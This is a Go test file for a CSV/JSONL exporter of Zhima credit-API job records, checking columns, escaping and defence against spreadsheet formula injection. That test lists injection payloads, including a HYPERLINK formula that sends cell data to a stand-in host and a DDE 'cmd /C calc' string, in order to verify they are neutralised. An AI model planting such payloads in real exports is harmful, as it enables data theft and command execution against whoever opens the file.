package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/zhimaq/zhimaq"
)

const testMethod = "zhima.credit.score.brief.get"

func TestExportCSV(t *testing.T) {
	at := time.Date(2026, 11, 26, 3, 15, 0, 500_000_000, time.UTC)
	recs := []*zhimaq.Record{
		{AppID: "2021000000000002", Method: testMethod, TransactionID: "T1", State: zhimaq.Succeeded, Attempts: 2, BatchID: "b_x", EnqueuedAt: &at, UpdatedAt: at,
			Response: json.RawMessage(`{"code":"10000","msg":"Success","biz_no":"ZM2026","is_admittance":"Y"}`)},
		{Method: "zhima.credit.relation.query", TransactionID: "T2", State: zhimaq.Succeeded, BatchID: "b_x", UpdatedAt: at,
			Response: json.RawMessage(`{"code":"10000","relation_rank":"high","relation_score":0.87,"relation_info":{"recency":"recent"}}`)},
		{State: zhimaq.Rejected, BatchID: "b_x", UpdatedAt: at,
			Error: &zhimaq.ErrorInfo{Source: "local", Code: "40004", SubCode: "INVALID_PARAMETER", SubMsg: "=cert_no: bad, \"quoted\""}},
		{Method: testMethod, TransactionID: "T3", State: zhimaq.Failed, BatchID: "b_x", UpdatedAt: at,
			Error: &zhimaq.ErrorInfo{Source: "transport", Msg: "HTTP 502"}},
	}
	var buf bytes.Buffer
	e, err := New(&buf, "csv")
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range recs {
		// The second line repeats a job submitted before.
		if err := e.Write(i+1, &zhimaq.Submission{Record: r, Duplicate: i == 1, BatchID: r.BatchID}); err != nil {
			t.Fatal(err)
		}
	}
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		CSVColumns,
		{"1", "b_x", testMethod, "T1", "succeeded", "2", "false", "", "", "", "Y", "", "", "ZM2026", "2026-11-26T03:15:00.5Z", "2026-11-26T03:15:00.5Z", "2021000000000002"},
		{"2", "b_x", "zhima.credit.relation.query", "T2", "succeeded", "0", "true", "", "", "", "", "high", "0.87", "", "", "2026-11-26T03:15:00.5Z", ""},
		{"3", "b_x", "", "", "rejected", "0", "false", "local", "INVALID_PARAMETER", `'=cert_no: bad, "quoted"`, "", "", "", "", "", "2026-11-26T03:15:00.5Z", ""},
		{"4", "b_x", testMethod, "T3", "failed", "0", "false", "transport", "", "HTTP 502", "", "", "", "", "", "2026-11-26T03:15:00.5Z", ""},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d", len(rows), len(want))
	}
	for i := range want {
		if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
			t.Errorf("row %d =\n%q\nwant\n%q", i, rows[i], want[i])
		}
	}
}

func TestExportEmptyAndJSONL(t *testing.T) {
	var buf bytes.Buffer
	e, _ := New(&buf, "csv")
	if err := e.Close(); err != nil || buf.String() != strings.Join(CSVColumns, ",")+"\n" {
		t.Errorf("empty CSV = %q, %v; want the header", buf.String(), err)
	}
	buf.Reset()
	e, _ = New(&buf, "jsonl")
	rec := &zhimaq.Record{Method: testMethod, TransactionID: "T1", State: zhimaq.Succeeded, BatchID: "b_x",
		Response: json.RawMessage(`{"biz_no":"a\/b<&>"}`)}
	if err := e.Write(1, &zhimaq.Submission{Record: rec, BatchID: rec.BatchID}); err != nil {
		t.Fatal(err)
	}
	e.Close()
	if !strings.Contains(buf.String(), `"response":{"biz_no":"a\/b<&>"}`) || !strings.HasSuffix(buf.String(), `"batch_id":"b_x"}`+"\n") {
		t.Errorf("JSONL = %s", buf.String())
	}
	if _, err := New(&buf, "xml"); err != ErrUnknownFormat {
		t.Errorf("NewExporter(xml) = %v", err)
	}
}

func TestExportCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, "\t=1+1", "\r=1+1", "-Inf", "+0x1p3"}
	text := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	columns := []struct {
		name, column string
		set          func(r *zhimaq.Record, v string)
	}{
		{"batch_id", "batch_id", func(r *zhimaq.Record, v string) { r.BatchID = v }},
		{"method", "method", func(r *zhimaq.Record, v string) { r.Method = v }},
		{"transaction_id", "transaction_id", func(r *zhimaq.Record, v string) { r.TransactionID = v }},
		{"state", "state", func(r *zhimaq.Record, v string) { r.State = zhimaq.State(v) }},
		{"error_source", "error_source", func(r *zhimaq.Record, v string) { r.Error = &zhimaq.ErrorInfo{Source: v} }},
		{"error_sub_code", "error_sub_code", func(r *zhimaq.Record, v string) { r.Error = &zhimaq.ErrorInfo{SubCode: v} }},
		{"error_sub_msg", "error_sub_msg", func(r *zhimaq.Record, v string) { r.Error = &zhimaq.ErrorInfo{SubMsg: v} }},
		{"error_sub_msg from msg", "error_sub_msg", func(r *zhimaq.Record, v string) { r.Error = &zhimaq.ErrorInfo{Msg: v} }},
		{"is_admittance", "is_admittance", func(r *zhimaq.Record, v string) { r.Response = json.RawMessage(`{"is_admittance":` + text(v) + `}`) }},
		{"relation_rank", "relation_rank", func(r *zhimaq.Record, v string) { r.Response = json.RawMessage(`{"relation_rank":` + text(v) + `}`) }},
		{"relation_score", "relation_score", func(r *zhimaq.Record, v string) { r.Response = json.RawMessage(`{"relation_score":` + text(v) + `}`) }},
		{"biz_no", "biz_no", func(r *zhimaq.Record, v string) { r.Response = json.RawMessage(`{"biz_no":` + text(v) + `}`) }},
	}
	for _, c := range columns {
		col := slices.Index(CSVColumns, c.column)
		t.Run(c.name+" gets a leading apostrophe", func(t *testing.T) {
			for _, v := range hostile {
				rec := &zhimaq.Record{Method: testMethod, TransactionID: "T1", State: zhimaq.Failed, BatchID: "b_x"}
				c.set(rec, v)
				row := exportRow(t, rec)
				if row[col] != "'"+v {
					t.Errorf("%s %q exported as %q, want %q", c.column, v, row[col], "'"+v)
				}
				for i, got := range row {
					if i != col && got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
						t.Errorf("column %s is %q", CSVColumns[i], got)
					}
				}
			}
		})
	}
	t.Run("a number keeps its sign", func(t *testing.T) {
		row := exportRow(t, &zhimaq.Record{Method: testMethod, State: zhimaq.Succeeded, Response: json.RawMessage(`{"relation_score":-0.5}`)})
		if got := row[slices.Index(CSVColumns, "relation_score")]; got != "-0.5" {
			t.Errorf("relation_score -0.5 exported as %q", got)
		}
	})
}

// exportRow is the CSV row Exporter writes for rec.
func exportRow(t *testing.T, rec *zhimaq.Record) []string {
	t.Helper()
	var buf bytes.Buffer
	e, err := New(&buf, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if err := e.Write(1, &zhimaq.Submission{Record: rec, BatchID: rec.BatchID}); err != nil {
		t.Fatal(err)
	}
	if err := e.Close(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(rows) != 2 || len(rows[1]) != len(CSVColumns) {
		t.Fatalf("CSV %q: %v", buf.String(), err)
	}
	return rows[1]
}
